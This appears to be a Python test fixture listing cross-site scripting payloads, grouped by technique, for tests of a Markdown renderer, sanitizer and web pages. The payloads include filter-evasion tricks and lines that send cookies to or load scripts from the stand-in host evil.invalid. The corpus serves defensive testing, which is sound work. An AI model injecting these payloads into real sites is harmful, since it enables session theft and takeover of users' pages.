"""A corpus of cross-site scripting payloads, for the tests that post them everywhere people write.

Every payload, were it ever to run, does something a test can observe: it opens a dialog
(``alert``), sets ``window.__xss`` or asks ``evil.invalid`` for something (a host that can never
exist, RFC 2606). The corpus is a Python module rather than a text file so that the invisible
characters of the Unicode tricks are written as escapes a reader can see, and so that Markdown
tricks may span lines.

Shared by tests/unit/test_xss_corpus.py (the renderer and sanitizer, no network) and
tests/e2e/test_xss.py (the API and every page that shows what was posted, in Chromium).
"""

from __future__ import annotations

EVIL = "http://evil.invalid"

SCRIPT_TAGS = (
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f'<script/xss src="{EVIL}/x.js"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    f"<script>fetch('{EVIL}/?c='+document.cookie)</script>",
    f"<script type=\"module\">import '{EVIL}/m.js'</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
)

EVENT_HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.__xss=1>",
    f'<img src="{EVIL}/pixel.png">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>xss</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<button formaction="javascript:alert(1)">go</button>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    f'<base href="{EVIL}/">',
    f'<div style="background:url({EVIL}/bg.png)">styled</div>',
    f'<img srcset="{EVIL}/x.png 1x">',
    f'<object data="{EVIL}/x.swf"></object>',
    '<embed src="javascript:alert(1)">',
)

URLS = (
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)

SVG_AND_MATH = (
    "<svg onload=alert(1)>",
    "<svg/onload=window.__xss=1>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">xss</text></a></svg>',
    "<svg><set attributeName=onmouseover to=alert(1)>",
    f'<svg><image href="{EVIL}/x.png"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
    "</foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">xss</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>xss</maction></math>",
)

# Markup the parser must take apart the same way the browser would (mutation XSS), and
# breakouts from the attribute, element and script contexts the text might land in.
BROKEN_MARKUP = (
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="</p><img src=x onerror=alert(1)>">',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) "',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<img src=x onerror=alert(1)//",
    "<a href='x'onclick=alert(1)>click</a>",
    "<table><tr><td><img src=x onerror=alert(1)></td></tr></table>",
    "<div><div><div></div></span></p><img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<plaintext><script>alert(1)</script>",
)

# For text that might be put into a script, a template or a data attribute read by one.
SCRIPT_CONTEXTS = (
    "'-alert(1)-'",
    '";alert(1);//',
    '\\";alert(1);//',
    "${alert(1)}",
    "`${alert(1)}`",
    "</script><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    '"},"x":"<img src=x onerror=alert(1)>',
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
)

HTML_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;img src=x onerror=alert(1)&gt",
)

MARKDOWN = (
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](javascript://%0aalert(1))",
    '[click](javascript:alert(1) "title")',
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    f"![tracker]({EVIL}/x.png)",
    f'![x" onerror="alert(1)]({EVIL}/x.png)',
    '![x](x" onerror="alert(1))',
    '[click](https://example.com "a\\" onmouseover=\\"alert(1))',
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "[evil]\n\n[evil]: data:text/html,<script>alert(1)</script>",
    f'![pic][pic]\n\n[pic]: {EVIL}/x.png "\\" onerror=\\"alert(1)"',
    "<javascript:alert(1)>",
    f'<{EVIL}/"onmouseover=alert(1)>',
    "<vbscript:msgbox(1)>",
    'www.evil.invalid/"><script>alert(1)</script>',
    f'{EVIL}/?q="><img src=x onerror=alert(1)>',
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[x](https://example.com)<img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "```onmouseover=alert(1) x\ncode\n```",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n"
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "1. <img src=x onerror=alert(1)>\n2. [x](javascript:alert(1))",
    "**<script>**alert(1)**</script>**",
    "~~<svg onload=alert(1)>~~",
    "[click](mailto:a@b.invalid?body=<script>alert(1)</script>)",
    "[click](\njavascript:alert(1))",
    "# <img src=x onerror=alert(1)>\n\nSetext\n===<script>alert(1)</script>",
    "    <script>alert(1)</script>",
)

UNICODE = (
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\uff02\uff1e\uff1csvg onload=alert(1)\uff1e",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u202egnp.js",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "[click](java\u200bscript:alert(1))",
    "[click](javascript\u180e:alert(1))",
    "\ufeff<script>alert(1)</script>",
    "<script\u00a0>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "\u0130\u0130\u0130<script>alert(1)</script>",
    "<\u0455cript>alert(1)</\u0455cript>",
    "<s\u0336cript>alert(1)</s\u0336cript>",
    "\U0001f600<img src=x onerror=alert(1)>\U0001f600",
    "\u3008script\u3009alert(1)\u3008/script\u3009",
)

# Very long inputs: for the parser's worst cases and for anything that shortens text (a meta
# description, a file name) and might cut an escape in half.
LONG = (
    "<" * 3000 + "script>alert(1)</script>",
    "[" * 2000 + "x](javascript:alert(1))" + "]" * 2000,
    "> " * 200 + "<script>alert(1)</script>",
    "<a href='" + "x" * 5000 + "' onclick=alert(1)>x</a>",
    "*" * 1000 + "<img src=x onerror=alert(1)>" + "*" * 1000,
    "<div>" * 1000 + "<img src=x onerror=alert(1)>",
    "A" * 150 + "&lt;" * 3 + "<svg onload=alert(1)>",
    "x " * 75 + "&amp;<script>alert(1)</script>" * 40,
)

CORPUS: dict[str, tuple[str, ...]] = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "javascript: and data: URLs": URLS,
    "SVG and MathML": SVG_AND_MATH,
    "broken markup": BROKEN_MARKUP,
    "script contexts": SCRIPT_CONTEXTS,
    "HTML entities": HTML_ENTITIES,
    "Markdown": MARKDOWN,
    "Unicode": UNICODE,
    "long": LONG,
}

PAYLOADS: tuple[str, ...] = tuple(payload for group in CORPUS.values() for payload in group)


def one_line(payload: str, maximum: int) -> bool:
    """Fit for a title, a display name or a file name: one line of at most ``maximum``, without
    the direction controls that one-line texts refuse (such payloads go in bodies)."""
    direction_controls = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    return (
        "\n" not in payload
        and 0 < len(payload.strip()) <= maximum
        and not direction_controls & set(payload)
    )


def marker(index: int) -> str:
    """A word put before payload ``index`` in a body, so that a page can be shown to hold it."""
    return f"xss-marker-{index:03d}"


def marked(indexes: list[int]) -> str:
    """Markdown holding the given payloads, each after its marker in a paragraph of its own."""
    return "\n\n".join(f"{marker(index)}\n\n{PAYLOADS[index]}" for index in indexes)
